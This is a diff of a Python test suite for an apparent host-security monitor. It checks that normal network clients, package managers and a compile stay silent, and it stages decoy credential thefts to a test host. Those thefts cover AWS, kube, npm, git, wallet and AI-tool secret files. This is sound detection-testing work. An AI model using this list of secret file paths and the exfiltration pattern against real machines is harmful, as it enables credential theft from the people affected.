@@ -1,193 +1,132 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""What must stay silent under the default policy: real programs at their real paths doing their day's
-work."""
+"""Must stay silent under the default policy: network clients, package managers and a compile, as root and as a
+user, with their token files where they belong."""
 
 import os
-import shutil
 import subprocess
 import sys
 
-sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 
-import harness
+import scene as stage
+from scene import URL, USERS
+
 import tap
-from net import HOST_V4, Net
+from net import HOST_V4
+from registry import Registry
 from tap import Skip, require, require_equal
 
-SSH_PORT = 22
-FORWARD_PORT = 8022
-URL = f"http://{HOST_V4}/"
 # apt-get talks to a mirror that may be slow or not there; either way it must not alert.
 APT_TIMEOUT = 240
+NPM_TIMEOUT = 120
 
 
-class Scene:
-    def __init__(self, bw, net, home):
-        self.bw, self.net, self.home = bw, net, home
-        self.environment = dict(os.environ, HOME=home.path.decode(), LC_ALL="C")
-
-    def silent(self, command, status=0, namespace=True, timeout=60, needs=None):
-        """Runs it, then proves that nothing since the last proof was an alert but the marker thefts."""
-        needs = needs or command[0]
-        if not shutil.which(needs):
-            raise Skip(f"{needs} is not installed", environment=True)
-        before = len(self.bw.alerts)
-        if namespace:
-            result = self.net.run(command, timeout=timeout, env=self.environment, cwd=self.home.path)
-        else:
-            result = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True,
-                                    timeout=timeout, cwd="/")
-        if status is not None:
-            said = f"{result.stdout[-1000:]}{result.stderr[-1000:]}"
-            require_equal(result.returncode, status, f"{command}\n{said}")
-        self.require_silence(before)
-        return result.stdout
-
-    def require_silence(self, before):
-        self.bw.prove_delivered(self.net, self.home)
-        noise = [a for a in self.bw.alerts[before:] if a["process"]["comm"] != "technique-out-t"]
-        require(not noise, f"{len(noise)} alerts, the first: {noise[:1]}")
+def fetch(s, user, *command, stdin=None):
+    require_equal(s.silent([*command, URL], user, stdin=stdin), "hello\n", "what was fetched")
 
 
-def fetch(scene, *command):
-    require_equal(scene.silent([*command, URL], needs=command[0]), "hello\n", "what was fetched")
+def fetch_with_netrc(s, user):
+    """wget looks there on its own, curl when it is told to."""
+    path = s.world.write(user, ".netrc", f"machine {HOST_V4} login x password decoy\n")
+    fetch(s, user, "wget", "-q", "-O", "-")
+    fetch(s, user, "curl", "-sS", "-n")
+    s.theft(path, "netrc")
+    # pip prefers what is there to its own settings.
+    s.world.do("rm", path)
 
 
-def is_marked_at_all(scene):
-    """The same key that ssh may read is a theft in another program's hands: the silence below means
-    something."""
-    key = os.path.join(scene.home.ssh, b"id_ed25519")
-    result = scene.net.run([harness.program("technique-out-tcp"), "blocking", key, HOST_V4, "443"])
-    require(result.returncode == 0, result.stderr)
-    scene.bw.wait_alert(lambda a: harness.touches(a, key), "the theft of ssh's own key")
+def git_over_https(s, user):
+    """The forge is not there; the password was looked up by then."""
+    path = s.world.write(user, ".git-credentials", f"http://x:decoy@{HOST_V4}\n")
+    s.silent(["git", "-c", "credential.helper=store", "ls-remote", f"http://x@{HOST_V4}/repository.git"], user,
+             status=None, GIT_TERMINAL_PROMPT="0")
+    s.theft(path, "code-forges")
 
 
-class SshServer:
-    """A real sshd in the host's namespace, with host keys that are sensitive too."""
-
-    def __init__(self, scene):
-        self.scene, self.process, self.made = scene, None, False
-
-    def __enter__(self):
-        if not (shutil.which("sshd", path="/usr/sbin") and shutil.which("ssh-keygen")):
-            return self
-        ssh = self.scene.home.ssh.decode()
-        for name in ("host_ed25519_key", "id_ed25519"):
-            if not os.path.exists(f"{ssh}/{name}"):
-                subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{ssh}/{name}"],
-                               check=True, stdin=subprocess.DEVNULL)
-        shutil.copyfile(f"{ssh}/id_ed25519.pub", f"{ssh}/authorized_keys")
-        config = os.path.join(self.scene.home.root.decode(), "sshd_config")
-        with open(config, "w", encoding="utf-8") as out:
-            out.write(f"Port {SSH_PORT}\nHostKey {ssh}/host_ed25519_key\n"
-                      f"AuthorizedKeysFile {ssh}/authorized_keys\n"
-                      "PermitRootLogin prohibit-password\nStrictModes no\nUsePAM yes\nPidFile none\n"
-                      "Subsystem sftp internal-sftp\n")
-        # sshd wants its empty directory; where systemd's unit has not made it, it is ours to make and to
-        # remove.
-        try:
-            os.mkdir("/run/sshd", 0o755)
-            self.made = True
-        except FileExistsError:
-            pass
-        self.process = self.scene.net.popen(["/usr/sbin/sshd", "-D", "-e", "-f", config],
-                                            namespace=self.scene.net.host, stdout=subprocess.DEVNULL,
-                                            stderr=subprocess.PIPE, text=True)
-        for line in self.process.stderr:
-            if "Server listening" in line:
-                break
-        else:
-            raise RuntimeError("sshd did not start")
-        return self
-
-    def __exit__(self, *exception):
-        if self.process:
-            self.process.terminate()
-            self.process.communicate()
-        if self.made:
-            os.rmdir("/run/sshd")
-
-    def options(self):
-        if not self.process:
-            raise Skip("openssh is not installed", environment=True)
-        ssh = self.scene.home.ssh.decode()
-        return ["-F", "none", "-i", f"{ssh}/id_ed25519", "-o", "StrictHostKeyChecking=accept-new",
-                "-o", "BatchMode=yes", "-o", f"UserKnownHostsFile={ssh}/known_hosts"]
+def apt_update(s):
+    before = len(s.bw.alerts)
+    subprocess.run(["apt-get", "-q", "-o", "Acquire::Retries=0", "update"], stdin=subprocess.DEVNULL,
+                   capture_output=True, timeout=APT_TIMEOUT, check=False)
+    s.require_silence(before)
 
 
-def ssh_login(scene, server, command, wanted, *options):
-    out = scene.silent(["ssh", *server.options(), *options, f"root@{HOST_V4}", command])
-    require(wanted in out, f"ssh: {out!r}")
+def npm_install(s, registry, user):
+    """The token is used, and the package's honest script fetches something, as many do."""
+    rc = s.world.write(user, ".npmrc", registry.npmrc())
+    s.world.write(user, "application/package.json", '{"name":"application","version":"1.0.0"}', 0o644)
+    registry.asked.clear()
+    s.silent(["npm", "install", "--no-audit", "--no-fund", "--no-update-notifier", "--foreground-scripts",
+              "--prefix", f"{s.world.home_of(user)}/application", "honest"], user, timeout=NPM_TIMEOUT)
+    require("/honest" in registry.asked, f"npm showed no token: {registry.asked}")
+    built = f"{s.world.home_of(user)}/application/node_modules/honest/built"
+    require_equal(s.world.do("cat", built, user=user), "hello\n", "what the package's script made")
+    s.theft(rc, "package-registries")
 
 
-def scp(scene, server):
-    """From a file that nobody minds."""
-    target = os.path.join(scene.home.root.decode(), "copied")
-    scene.silent(["scp", *server.options(), "/etc/hostname", f"root@{HOST_V4}:{target}"])
-    require(os.path.exists(target), "scp copied nothing")
+def pip_install(s, registry, user):
+    conf = s.world.write(user, ".config/pip/pip.conf", registry.pip_conf())
+    registry.asked.clear()
+    s.silent(["/usr/bin/pip3", "install", "-q", "--disable-pip-version-check", "--no-cache-dir", "--target",
+              f"{s.world.home_of(user)}/site", "honestwheel"], user, timeout=NPM_TIMEOUT)
+    require("/simple/honestwheel/" in registry.asked, f"pip showed no token: {registry.asked}")
+    s.theft(conf, "package-registries")
 
 
-def compile_project(scene):
-    build = os.path.join(scene.home.path.decode(), "project")
-    os.mkdir(build)
+def stand_in(s, user, program, secret, name):
+    """A client that is not in Debian, by a program of root's at its real path; then the file is stolen, and the
+    same program is not allowed when it is a user's own."""
+    path = s.world.write(user, secret, "decoy\n")
+    s.world.stand_in(program)
+    s.silent([program, "blocking", path, HOST_V4, "443"], user, needs="/usr/bin/env")
+    s.theft(path, name)
+    copy = os.path.join(s.world.home_of(user), os.path.basename(program))
+    s.world.do("cp", program, copy, user=user)
+    s.run([copy, "blocking", path, HOST_V4, "443"], user, needs="/usr/bin/env")
+    s.bw.wait_alert(lambda a: a["process"]["exe"] == copy, "a user's copy of an allowed program")
+
+
+def compile_project(s, user):
+    """Much forking, many opens, no network; then the result is fetched by make, which forgets nothing."""
+    make = "all: p0.o p1.o p2.o p3.o p4.o p5.o p6.o p7.o\n\tar rc all.a *.o\n\tcurl -sS " + URL + " >fetched\n"
+    s.world.write(user, "project/Makefile", make, 0o644)
     for n in range(8):
-        with open(f"{build}/part{n}.c", "w", encoding="ascii") as out:
-            out.write(f"#include <stdio.h>\nint part{n}(void);\n"
-                      f"int part{n}(void) {{ return puts(\"{n}\"); }}\n")
-    script = f"cd {build}; for f in *.c; do cc -O2 -c $f; done; ar rc all.a *.o"
-    scene.silent(["sh", "-ec", script], needs="cc")
-
-
-def npm_install(scene):
-    """A local package with a lifecycle script, offline, with a token in ~/.npmrc that npm may read."""
-    home = scene.home.path.decode()
-    with open(f"{home}/.npmrc", "w", encoding="ascii") as out:
-        out.write("//registry.npmjs.org/:_authToken=decoy-not-a-token\n")
-    os.makedirs(f"{home}/package")
-    os.makedirs(f"{home}/application")
-    with open(f"{home}/package/package.json", "w", encoding="ascii") as out:
-        out.write('{"name":"decoy","version":"1.0.0","scripts":{"postinstall":"true"}}')
-    with open(f"{home}/application/package.json", "w", encoding="ascii") as out:
-        out.write('{"name":"application","version":"1.0.0"}')
-    scene.silent(["npm", "install", "--offline", "--no-audit", "--no-fund", "--no-update-notifier",
-                  "--prefix", f"{home}/application", f"{home}/package"], timeout=120)
-
-
-def whole(bw):
-    bw.stop()
-    bw.require_whole()
+        s.world.write(user, f"project/p{n}.c", f"#include <stdio.h>\nint p{n}(void);\n"
+                      f'int p{n}(void) {{ return puts("{n}"); }}\n', 0o644)
+    s.silent(["make", "-s", "-j4", "-C", f"{s.world.home_of(user)}/project"], user)
 
 
 def main():
-    harness.require_machine()
     t = tap.Tap()
-    with Net() as net, harness.Home() as home, harness.Barbwired() as bw:
-        scene = Scene(bw, net, home)
-        with SshServer(scene) as server:
-            t.case("curl", fetch, scene, "curl", "-sS")
-            t.case("wget", fetch, scene, "wget", "-q", "-O", "-")
-            t.case("sudo curl", fetch, scene, "sudo", "-n", "-u", "root", "curl", "-sS")
-            t.case("sudo curl as another user", fetch, scene, "sudo", "-n", "-u", "nobody", "curl", "-sS")
-            t.case("su -c curl", scene.silent, ["su", "-s", "/bin/sh", "-c", f"curl -sS {URL}", "daemon"])
-            t.case("getent passwd", scene.silent, ["getent", "passwd", "root"])
-            t.case("getent shadow by root, no network", scene.silent, ["getent", "shadow", "root"])
-            t.case("getent hosts", scene.silent, ["getent", "ahosts", "barbwire.invalid"], None)
-            if server.process:
-                t.case("(control) ssh's key is watched", is_marked_at_all, scene)
-            t.case("ssh with its own key", ssh_login, scene, server, "echo in", "in\n")
-            t.case("ssh, and curl in the session", ssh_login, scene, server, f"curl -sS {URL}", "hello\n")
-            # ssh connects once more, by now with the key in its hands.
-            t.case("ssh forwarding a port", ssh_login, scene, server,
-                   f"curl -sS http://127.0.0.1:{FORWARD_PORT}/", "hello\n",
-                   "-R", f"{FORWARD_PORT}:{HOST_V4}:80")
-            t.case("scp with its own key", scp, scene, server)
-            t.case("apt-get update", scene.silent, ["apt-get", "-q", "-o", "Acquire::Retries=0", "update"],
-                   None, False, APT_TIMEOUT)
-            t.case("a compile", compile_project, scene)
-            t.case("npm --version", scene.silent, ["npm", "--version"])
-            t.case("npm install, local and offline", npm_install, scene)
-        t.case("no loss", whole, bw)
+    with stage.scene() as s, Registry(s.net, HOST_V4) as registry:
+        registry.add_npm("honest", files={"build.js": f"""
+            const http = require("http"), fs = require("fs");
+            http.get("{URL}", r => r.pipe(fs.createWriteStream("built")));
+        """}, scripts={"postinstall": "node build.js"})
+        registry.add_wheel("honestwheel")
+        for user in USERS:
+            t.case(f"{user}: curl", fetch, s, user, "curl", "-sS")
+            t.case(f"{user}: wget", fetch, s, user, "wget", "-q", "-O", "-")
+            t.case(f"{user}: wget and curl with ~/.netrc, and its theft", fetch_with_netrc, s, user)
+            t.case(f"{user}: git over HTTP with ~/.git-credentials, and its theft", git_over_https, s, user)
+            t.case(f"{user}: getent passwd", s.silent, ["getent", "passwd", "root"], user)
+            t.case(f"{user}: getent hosts", s.silent, ["getent", "ahosts", "barbwire.invalid"], user, None)
+            t.case(f"{user}: npm install with a token, and its theft", npm_install, s, registry, user)
+            t.case(f"{user}: pip install with a token, and its theft", pip_install, s, registry, user)
+            for program, secret, name in (
+                    ("/usr/local/bin/cargo", ".cargo/credentials.toml", "package-registries"),
+                    ("/usr/local/aws-cli/v2/2.15.0/dist/aws", ".aws/credentials", "cloud-aws"),
+                    ("/usr/local/bin/kubectl", ".kube/config", "kubernetes"),
+                    ("/usr/local/bin/rclone", ".config/rclone/rclone.conf", "cloud-other"),
+                    ("/usr/local/bin/podman", ".docker/config.json", "container-registries"),
+                    ("/usr/local/bin/gh", ".config/gh/hosts.yml", "code-forges"),
+                    ("/usr/local/bin/codex", ".codex/auth.json", "ai-tools"),
+                    ("/usr/local/bin/bitcoind", ".bitcoin/wallet.dat", "wallets"),
+                    ("/usr/local/bin/sops", ".config/sops/age/keys.txt", "password-stores")):
+                t.case(f"{user}: {program}-like, and a theft of ~/{secret}", stand_in, s, user, program, secret, name)
+            t.case(f"{user}: a compile", compile_project, s, user)
+        t.case("apt-get update", apt_update, s)
+        t.case("no loss", stage.whole, s.bw)
     t.done()
 
 
